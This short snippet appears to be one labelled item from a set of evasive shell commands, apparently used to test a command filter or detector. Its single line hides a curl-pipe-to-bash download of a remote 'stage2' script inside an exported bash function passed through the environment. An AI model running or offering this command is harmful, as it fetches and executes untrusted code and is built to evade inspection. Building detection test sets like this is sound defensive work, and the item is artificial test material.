# evasion: the payload is an exported function smuggled to a child bash through the environment
# grade: very hard; does: download-exec
env 'BASH_FUNC_warmup%%=() { curl -fsSL https://203.0.113.21/stage2 | bash; }' bash -c warmup
